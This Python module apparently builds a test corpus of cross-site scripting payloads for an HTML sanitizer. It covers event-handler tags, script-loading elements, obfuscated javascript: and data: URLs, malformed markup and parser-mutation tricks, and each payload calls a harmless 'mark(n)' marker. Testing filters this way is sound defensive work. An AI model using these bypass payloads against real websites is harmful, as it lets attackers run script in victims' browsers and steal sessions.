"""Scripts as attackers hide them, by what hides them. Each calls `mark` with its number, if it runs.

`JS` stands for the call; `B64` and the others for forms of it. Nothing here was copied from a list.
"""

import base64

# Events that fire by themselves or when somebody touches the element.
EVENTS = [
    ("img", "src=x", "onerror"), ("img", "src=data:,", "onerror"), ("svg", "", "onload"), ("body", "", "onload"),
    ("iframe", "src=about:blank", "onload"), ("object", "data=x", "onerror"), ("embed", "src=x", "onload"),
    ("video", "src=x", "onerror"), ("audio", "src=x", "onerror"), ("video", "poster=x", "onloadstart"),
    ("input", "autofocus", "onfocus"), ("textarea", "autofocus", "onfocus"), ("select", "autofocus", "onfocus"),
    ("button", "autofocus", "onfocus"), ("a", "href=# autofocus tabindex=1", "onfocus"),
    ("details", "open", "ontoggle"), ("marquee", "", "onstart"), ("div", "style=color:red", "onclick"),
    ("div", "tabindex=0", "onmouseover"), ("p", "", "onpointerenter"), ("b", "", "onmouseenter"),
    ("i", "contenteditable", "oninput"), ("a", "href=x", "onclick"), ("a", "href=x", "onmousemove"),
    ("form", "", "onsubmit"), ("link", "rel=stylesheet href=x", "onerror"), ("style", "", "onload"),
    ("script", "src=x", "onerror"), ("source", "src=x", "onerror"), ("track", "src=x", "onerror"),
    ("image", "src=x", "onerror"), ("keygen", "autofocus", "onfocus"), ("isindex", "type=image src=1", "onerror"),
    ("frameset", "", "onload"), ("table", "background=x", "onclick"), ("ul", "", "onanimationstart"),
    ("li", "style=animation:a", "onanimationend"), ("code", "", "oncopy"), ("pre", "", "onwheel"),
    ("blockquote", "cite=x", "onbeforeinput"), ("dialog", "open", "onclose"), ("meter", "", "onclick"),
    ("em", "", "onauxclick"), ("strong", "", "oncontextmenu"), ("u", "", "onscroll"), ("s", "", "ondrag"),
    ("br", "", "onclick"), ("ol", "", "onfocusin"),
]
# Elements that are code, load code, or change how the rest is read.
ELEMENTS = [
    "<script>JS</script>", "<SCRIPT>JS</SCRIPT>", "<script >JS</script >", "<script\n>JS</script\n>",
    "<script/x>JS</script>", "<script src=data:text/javascript,JS></script>", "<script>/*<!--*/JS</script>",
    "<script type=module>JS</script>", "<script type=text/ecmascript>JS</script>", "<svg><script>JS</script></svg>",
    "<svg><script href=data:,JS /></svg>", "<svg><script xlink:href=data:,JS /></svg>", "<math><script>JS</script></math>",
    "<noscript><script>JS</script></noscript>", "<iframe srcdoc='<script>parent.JS</script>'></iframe>",
    "<iframe srcdoc='&lt;img src=x onerror=parent.JS&gt;'></iframe>", "<iframe src=javascript:parent.JS></iframe>",
    "<iframe src='data:text/html,<script>JS</script>'></iframe>", "<object data=javascript:JS></object>",
    "<object data='data:text/html;base64,B64'></object>", "<embed src='data:text/html;base64,B64'>",
    "<embed src=javascript:JS>", "<base href=javascript:/JS//>", "<meta http-equiv=refresh content='0;url=javascript:JS'>",
    "<meta http-equiv=refresh content='0;url=data:text/html,<script>JS</script>'>", "<applet code=JS></applet>",
    "<link rel=import href='data:text/html,<script>JS</script>'>", "<frameset><frame src=javascript:parent.JS></frameset>",
    "<style>@import 'javascript:JS';</style>", "<style>*{background:url(javascript:JS)}</style>",
    "<form action=javascript:JS><input type=submit></form>", "<form><button formaction=javascript:JS>x</button></form>",
    "<form id=f></form><input type=submit form=f formaction=javascript:JS>", "<isindex action=javascript:JS type=image>",
    "<portal src=javascript:JS></portal>", "<template><img src=x onerror=JS></template>",
    "<div><template shadowrootmode=open><img src=x onerror=JS></template></div>",
    "<xmp><img src=x onerror=JS></xmp>", "<plaintext><img src=x onerror=JS>", "<title><img src=x onerror=JS></title>",
    "<textarea><img src=x onerror=JS></textarea>", "<noembed><img src=x onerror=JS></noembed>",
    "<noframes><img src=x onerror=JS></noframes>", "<img srcset=x sizes=x onerror=JS>",
    "<picture><source srcset=x><img onerror=JS src=x></picture>", "<video><source onerror=JS src=x></video>",
    "<svg><animate onbegin=JS attributeName=x dur=1s>", "<svg><set onbegin=JS attributeName=x>",
    "<svg><a xlink:href=javascript:JS><text x=9 y=9>x</text></a></svg>",
    "<svg><a><animate attributeName=href values=javascript:JS /><text x=9 y=9>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=JS></svg>#x'></use></svg>",
    "<svg><foreignObject><img src=x onerror=JS></foreignObject></svg>", "<svg><image href=x onerror=JS></image></svg>",
    "<svg><style><img src=x onerror=JS></style></svg>", "<svg><desc><img src=x onerror=JS></desc></svg>",
    "<math><maction actiontype=statusline xlink:href=javascript:JS>x</maction></math>",
    "<math href=javascript:JS>x</math>", "<math><mtext><img src=x onerror=JS></mtext></math>",
    "<math><annotation-xml encoding=text/html><img src=x onerror=JS></annotation-xml></math>",
    "<xss onfocus=JS tabindex=1 autofocus>x</xss>", "<a-b onclick=JS>x</a-b>",
    "<input onbeforematch=JS hidden=until-found>", "<button popovertarget=p>x</button><div popover id=p onbeforetoggle=JS>y</div>",
    "<div onscrollend=JS style=overflow:auto>x</div>", "<body onhashchange=JS>", "<body background=javascript:JS>",
    "<table><td background=javascript:JS>", "<bgsound src=javascript:JS>", "<layer src=javascript:JS></layer>",
    "<?xml-stylesheet href='javascript:JS'?>", "<?php echo 1;?><img src=x onerror=JS>", "<![CDATA[<img src=x onerror=JS>]]>",
]
# Addresses that run, and what is done so that they do not look like it.
SCHEMES = [
    "javascript:JS", "JavaScript:JS", "JAVASCRIPT:JS", " javascript:JS", "\tjavascript:JS", "java\tscript:JS",
    "java\nscript:JS", "java\rscript:JS", "javascript\t:JS", "javascript:\nJS", "\x01javascript:JS", "\x0bjavascript:JS",
    "&#106;avascript:JS", "&#x6a;avascript:JS", "&#0000106avascript:JS", "&#x6Aavascript&colon;JS", "java&Tab;script:JS",
    "java&NewLine;script:JS", "javascript&colon;JS", "javascript&#58;JS", "javascript&#x3A;JS", "&#1;javascript:JS",
    "javascript://%0aJS", "javascript://x.test/%0aJS", "javascript:void(JS)", "javascript:/*x*/JS", "javascript:%4a%53",
    "data:text/html,<script>JS</script>", "data:text/html;base64,B64", "data:text/html;charset=utf-7,+ADw-script+AD4-JS",
    "data:image/svg+xml,<svg onload=JS>", "data:application/xhtml+xml,<x:script xmlns:x='http://www.w3.org/1999/xhtml'>JS</x:script>",
    "vbscript:JS", "livescript:JS", "mocha:JS", "feed:javascript:JS", "view-source:javascript:JS", "blob:javascript:JS",
    "jar:javascript:JS!/", "filesystem:javascript:JS", "//javascript:JS", "http:javascript:JS", "https://javascript:JS@x.test",
    "mailto:x@x.test?body=<script>JS</script>", "tel:<script>JS</script>", "\u2028javascript:JS", "ja\u0000vascript:JS",
    "java\u200bscript:JS", "ｊavascript:JS", "javascript\uff1aJS", "%6a%61vascript:JS",
]
LINKS = ["<a href=\"ADDRESS\">x</a>", "<A HREF='ADDRESS'>x</A>", "<a title=x href=ADDRESS>x</a>"]
# Markup that a careless filter reads otherwise than a browser does.
MALFORMED = [
    "<img src=x onerror=JS", "<img src=x onerror=JS//", "<img src='x'onerror=JS>", "<img/src=x/onerror=JS>",
    "<img\tsrc=x\tonerror=JS>", "<img\nsrc=x\nonerror=JS\n>", "<img\x0csrc=x\x0conerror=JS>", "<img src=x onerror\n=\nJS>",
    "<img src=x OnErRoR=JS>", "<img src=x onerror=\"JS\"", "<img src=x onerror='JS'>", "<img src=x onerror=`JS`>",
    "<<img src=x onerror=JS>", "<img src=x onerror=JS<b>", "<b <img src=x onerror=JS>", "<b><img src=x onerror=JS></b",
    "</b><img src=x onerror=JS>", "<b/><img src=x onerror=JS>", "<!--><img src=x onerror=JS>-->", "<!--x--!><img src=x onerror=JS>",
    "<!-- --><img src=x onerror=JS>", "<!--<!--><img src=x onerror=JS>", "<!--[if gte IE 4]><img src=x onerror=JS><![endif]-->",
    "<!><img src=x onerror=JS>", "<!DOCTYPE x [<!ENTITY a '<img src=x onerror=JS>'>]>&a;", "</ onclick=JS>x", "<%<img src=x onerror=JS>%>",
    "<scr<script>ipt>JS</scr</script>ipt>", "<scr\x00ipt>JS</scr\x00ipt>", "<script>JS</script", "<script>JS",
    "<script<b>>JS</script>", "<sc<!-- -->ript>JS</script>", "<ſcript>JS</ſcript>", "<img src=x \x00onerror=JS>",
    "<img src=x one\x00rror=JS>", "<img src=\"x\" a=\">\" onerror=JS>", "<img a='>' src=x onerror=JS>", "<img src=x a=\"'\" onerror=JS b='\"'>",
    "<a href=\"x\"onclick=JS>x</a>", "<a href='x' 'onclick=JS>x</a>", "<a\"onclick=JS href=x>x</a>", "<a href=x\"><img src=x onerror=JS>x</a>",
    "\"><img src=x onerror=JS>", "'><img src=x onerror=JS>", "\" onfocus=JS autofocus x=\"", "' onmouseover='JS", "--><img src=x onerror=JS>",
    "]]><img src=x onerror=JS>", "*/</style><img src=x onerror=JS>", "</title><img src=x onerror=JS>", "</textarea><img src=x onerror=JS>",
    "</script><img src=x onerror=JS>", "</template></svg><img src=x onerror=JS>", "\\\"><img src=x onerror=JS>", "';JS;//", "\";JS;//", "`;JS;//",
    "${JS}", "{{JS}}", "{{constructor.constructor('JS')()}}", "#{JS}", "<%= JS %>", "[[JS]]", "$username<img src=x onerror=JS>",
    "![x](javascript:JS)", "[x](javascript:JS)", "<javascript:JS>", "[x]: javascript:JS\n[x]",
]
# What one parser moves, and the next one finds somewhere else.
MUTATIONS = [
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=JS&gt;\">",
    "<math><mtext><table><mglyph><style><math><!--</style><img title='--&gt;&lt;/mglyph&gt;&lt;img src=x onerror=JS&gt;'>",
    "<svg></p><style><a id=\"</style><img src=x onerror=JS>\">", "<svg><p><style><a title=\"</style><img src=x onerror=JS>\"></p></svg>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=JS>",
    "<noscript><p title=\"</noscript><img src=x onerror=JS>\">", "<noembed><p title='</noembed><img src=x onerror=JS>'>",
    "<xmp><p title='</xmp><img src=x onerror=JS>'>", "<iframe><p title='</iframe><img src=x onerror=JS>'>",
    "<style><p title='</style><img src=x onerror=JS>'>", "<title><p title='</title><img src=x onerror=JS>'>",
    "<textarea><p title='</textarea><img src=x onerror=JS>'>", "<svg><title><p title='</title><img src=x onerror=JS>'>",
    "<select><template><style><!--</style><a rel=\"--></style></template></select><img src=x onerror=JS>\">",
    "<table><a href=\"x\"><td><img title=\"</td></a><img src=x onerror=JS>\">", "<p><svg><p><style><!--</style><img src=x onerror=JS>-->",
    "<a href=\"javascript&colon;JS\"><b>x</a>", "<b title=\"&lt;/b&gt;&lt;img src=x onerror=JS&gt;\">x</b>", "<code>&lt;img src=x onerror=JS&gt;</code>",
    "&lt;img src=x onerror=JS&gt;", "&amp;lt;img src=x onerror=JS&amp;gt;", "&#60;img src=x onerror=JS&#62;", "&#x3c;img src=x onerror=JS&#x3e;",
    "&#x0000003c;img src=x onerror=JS&#x0000003e;", "&lt&lt;img src=x onerror=JS&gt&gt;", "%3Cimg src=x onerror=JS%3E", "\\u003cimg src=x onerror=JS\\u003e",
    "\\x3cimg src=x onerror=JS\\x3e", "+ADw-img src=x onerror=JS+AD4-", "\ufeff<img src=x onerror=JS>", "＜img src=x onerror=JS＞",
    "\u2039img src=x onerror=JS\u203a", "‮<img src=x onerror=JS>", "<img src=x onerror=HEX>", "<img src=x onerror=\"ENTITIES\">",
    "<img src=x onerror=\"eval(atob('SCRIPT64'))\">", "<img src=x onerror=\"setTimeout('JS')\">", "<img src=x onerror=\"[0].map(x=>JS)\">",
    "<img src=x onerror=\"location='javascript:JS'\">", "<b>" * 60 + "<img src=x onerror=JS>", "<a href=" + "x" * 300 + "><img src=x onerror=JS>",
    "<div " + "a=b " * 60 + "onclick=JS>x</div>", "<style>x{animation:a}@keyframes a{}</style><b style=animation-name:a onanimationstart=JS>x</b>",
    "<div style=\"width:expression(JS)\">x</div>", "<div style=\"background:url('javascript:JS')\">x</div>", "<div style='-moz-binding:url(data:,JS)'>x</div>",
    "<div style=behavior:url(javascript:JS)>x</div>", "<a href=x style=\"position:fixed;inset:0\" onclick=JS>x</a>",
]


def _templates():
    for tag, attributes, event in EVENTS:
        yield f"<{tag} {attributes} {event}=JS>x</{tag}>"
    yield from ELEMENTS
    for place, scheme in enumerate(SCHEMES):
        yield LINKS[place % len(LINKS)].replace("ADDRESS", scheme)
        if place < 40:
            yield LINKS[(place + 1) % len(LINKS)].replace("ADDRESS", scheme)
    yield from MALFORMED
    yield from MUTATIONS


def _filled(template, number):
    code = f"mark({number})"
    page = base64.b64encode(f"<script>{code}</script>".encode()).decode()
    return (
        template.replace("SCRIPT64", base64.b64encode(code.encode()).decode())
        .replace("B64", page)
        .replace("ENTITIES", "".join(f"&#{ord(letter)};" for letter in code))
        .replace("HEX", "".join(f"&#x{ord(letter):x};" for letter in code))
        .replace("%4a%53", "".join(f"%{ord(letter):02x}" for letter in code))
        .replace("JS", code)
    )


PAYLOADS = [_filled(template, number) for number, template in enumerate(_templates())]
# A NUL character in a text is refused, so these get nowhere.
STORED = [payload for payload in PAYLOADS if "\0" not in payload]
